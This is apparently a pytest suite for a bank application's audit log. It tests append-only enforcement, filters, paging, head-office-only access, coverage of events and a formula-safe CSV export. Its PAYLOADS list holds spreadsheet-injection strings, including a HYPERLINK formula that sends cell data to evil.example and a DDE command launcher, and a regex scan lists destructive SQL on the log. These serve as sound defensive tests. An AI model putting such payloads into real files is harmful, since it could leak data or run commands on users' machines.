"""The audit log: append-only from the app, complete for what a bank's review asks, and
readable (filters, pages, a formula-safe logged export) by head office only."""

import csv
import io
import json
import re
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import insert, select, text

from core.access import audit_log, auth
from core.access.audit_log import AuditFilter
from core.models import AuditLog
from core.permissions import Actor, Forbidden, deny
from core.scope import Scope

ROOT = Path(__file__).resolve().parents[2]
SOURCES = [
    p
    for d in ("core", "geo", "pages")
    for p in (ROOT / d).rglob("*.py")
    if "migrations" not in p.parts
] + [ROOT / "app.py"]
# what a write to the audit log other than an append would look like
WRITES = re.compile(
    r"""(update|delete)\(\s*AuditLog\b|AuditLog\.__table__\.(update|delete)
                    |\b(UPDATE|DELETE\s+FROM|TRUNCATE(\s+TABLE)?)\s+["'`]?audit_log\b
                    |DROP\s+TABLE\s+["'`]?audit_log\b""",
    re.X | re.I,
)


@pytest.mark.parametrize(
    "line",
    [
        "conn.execute(update(AuditLog).values(detail=None))",
        "delete( AuditLog)",
        "conn.execute(AuditLog.__table__.delete())",
        'conn.exec_driver_sql("DELETE FROM audit_log")',
        "text('update audit_log set detail = null')",
        'TRUNCATE TABLE "audit_log"',
    ],
)
def test_the_scan_catches_a_rewrite(line):
    assert WRITES.search(line)


def test_no_code_path_updates_or_deletes_audit_rows():
    assert len(SOURCES) > 50
    offenders = [
        f"{p.relative_to(ROOT)}:{i}: {line.strip()}"
        for p in SOURCES
        for i, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
        if WRITES.search(line)
    ]
    assert offenders == []


def add(engine, at, user_id, action, entity=None, entity_id=None, detail=None):
    with engine.begin() as conn:
        conn.execute(
            insert(AuditLog).values(
                at=at,
                user_id=user_id,
                action=action,
                entity=entity,
                entity_id=entity_id,
                detail=detail,
            )
        )


@pytest.fixture
def logged(fresh_county):
    """Head office, and a week of entries by hq (1), branch (2), manager (3) and the system."""
    base = datetime(2026, 12, 1, 8, 0)
    for day in range(7):
        add(fresh_county, base + timedelta(days=day), 1, "sign_in", "user", "hq")
        add(
            fresh_county,
            base + timedelta(days=day, hours=1),
            3,
            "view_customer",
            "customer",
            str(day),
        )
        add(
            fresh_county,
            base + timedelta(days=day, hours=2),
            2,
            "download",
            "field_sheet",
            detail=json.dumps({"rows": day}),
        )
    add(
        fresh_county,
        base + timedelta(days=3, hours=3),
        None,
        "sign_in_failed",
        "user",
        detail=json.dumps({"reason": "unknown_user", "username": "ghost"}),
    )
    return fresh_county, auth.authenticate(fresh_county, "hq", "demo")


def test_filters_by_time_user_action_and_entity_newest_first(logged):
    engine, hq = logged
    f = AuditFilter(start=date(2026, 12, 2), end=date(2026, 12, 4))
    df, total = audit_log.load_audit_log(engine, hq, f)
    assert total == 3 * 3 + 1 and len(df) == total
    assert list(df["at"]) == sorted(df["at"], reverse=True)
    assert df["at"].min() >= datetime(2026, 12, 2) and df["at"].max() < datetime(2026, 12, 5)
    df, total = audit_log.load_audit_log(engine, hq, AuditFilter(username="manager"))
    assert total == 7 and set(df["action"]) == {"view_customer"}
    df, total = audit_log.load_audit_log(
        engine, hq, AuditFilter(actions=("download", "sign_in_failed"))
    )
    assert total == 8 and df.iloc[0]["action"] in ("download", "sign_in_failed")
    unknown = df[df["action"] == "sign_in_failed"].iloc[0]
    assert unknown["username"] is None and "ghost" in unknown["detail"]
    _, total = audit_log.load_audit_log(
        engine, hq, AuditFilter(entity="field_sheet", username="branch")
    )
    assert total == 7


def test_pages_of_fifty(logged):
    engine, hq = logged
    for i in range(120):
        add(
            engine,
            datetime(2026, 12, 8, 9, 0) + timedelta(seconds=i),
            1,
            "search_customer",
            "customer",
            None,
            json.dumps({"query": f"q{i}"}),
        )
    f = AuditFilter(actions=("search_customer",))
    pages = [audit_log.load_audit_log(engine, hq, f, page) for page in (1, 2, 3, 4)]
    assert [len(df) for df, _ in pages] == [50, 50, 20, 0] and pages[0][1] == 120
    ids = [i for df, _ in pages for i in df["id"]]
    assert len(set(ids)) == 120 and ids == sorted(ids, reverse=True)


@pytest.mark.parametrize("who", ["branch", "manager"])
def test_only_head_office_reads_the_log(fresh_county, who):
    actor = auth.authenticate(fresh_county, who, "demo")
    for call in (
        lambda: audit_log.load_audit_log(fresh_county, actor, AuditFilter()),
        lambda: audit_log.audit_choices(fresh_county, actor),
        lambda: audit_log.export_audit_log(fresh_county, actor, AuditFilter(), who),
    ):
        with pytest.raises(Forbidden):
            call()


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_export_is_formula_safe_watermarked_and_logged(logged):
    engine, hq = logged
    for i, payload in enumerate(PAYLOADS):
        add(
            engine,
            datetime(2026, 12, 9, 9, i),
            None,
            "sign_in_failed",
            payload[:30],
            payload[:50],
            json.dumps({"username": payload}) if i % 2 else payload,
        )
    f = AuditFilter(start=date(2026, 12, 9), end=date(2026, 12, 9))
    data = audit_log.export_audit_log(
        engine, hq, f, "总行分析员(hq)", {"sign_in_failed": "登录失败"}
    )
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][0].startswith("导出人 总行分析员(hq)")
    assert rows[1] == audit_log.COLUMNS
    body = rows[2:]
    assert len(body) == len(PAYLOADS) and {r[2] for r in body} == {"登录失败"}
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    last = audit_log.load_audit_log(engine, hq, AuditFilter(actions=("download",)))[0].iloc[0]
    assert last["entity"] == "audit_log" and last["username"] == "hq"
    detail = json.loads(last["detail"])
    assert detail["rows"] == len(PAYLOADS) and detail["filters"]["start"] == "2026-12-09"


def test_the_log_holds_what_a_review_asks_for(fresh_county):
    """Sign-in and failures (unknown users too), customer searches and views, refusals,
    downloads, actuals and segment runs, sign-out: each leaves its entry."""
    from core.customers.customer_view import find_customers, load_customer
    from core.customers.tagging_run import profile_customers
    from core.files.downloads import log_download
    from core.performance.actuals import recompute_actuals

    engine = fresh_county
    with engine.connect() as conn:
        first = conn.execute(text("SELECT COALESCE(MAX(id), 0) FROM audit_log")).scalar()
        customer = conn.execute(
            text("SELECT id, cust_no FROM customer WHERE manager_id = 1 ORDER BY id")
        ).first()
    with pytest.raises(auth.SignInError):
        auth.authenticate(engine, "no.such.user", "x", client="10.1.1.1")
    with pytest.raises(auth.SignInError):
        auth.authenticate(engine, "manager", "wrong", client="10.1.1.1")
    user = auth.authenticate(engine, "manager", "demo", client="10.1.1.1")
    auth.start_session(engine, user, client="10.1.1.1")
    find_customers(engine, user.scope, customer.cust_no[:6], user_id=user.user_id)
    load_customer(engine, user.scope, customer.id, user_id=user.user_id)
    with pytest.raises(Forbidden):
        raise deny(engine, user, "grid_change", "manager tried a grid change")
    log_download(engine, user, "field_sheet", 12, {"week": "2026-11-23"})
    head_office = Actor(1, Scope("hq"))
    recompute_actuals(engine, head_office, date(2026, 11, 23))
    profile_customers(engine, head_office, date(2026, 11, 23), k=4)
    auth.end_sessions(engine, user.user_id)
    with engine.connect() as conn:
        rows = conn.execute(
            select(AuditLog.user_id, AuditLog.action, AuditLog.detail)
            .where(AuditLog.id > first)
            .order_by(AuditLog.id)
        ).all()
    assert [a for _, a, _ in rows] == [
        "sign_in_failed",
        "sign_in_failed",
        "sign_in",
        "search_customer",
        "view_customer",
        "denied",
        "download",
        "actuals_recompute",
        "segment_run",
        "sign_out",
    ]
    unknown = json.loads(rows[0].detail)
    assert rows[0].user_id is None and unknown["username"] == "no.such.user"
    assert json.loads(rows[3].detail)["query"] == customer.cust_no[:6]
    assert all(u == user.user_id for u, a, _ in rows[1:7]) and rows[8].user_id == 1
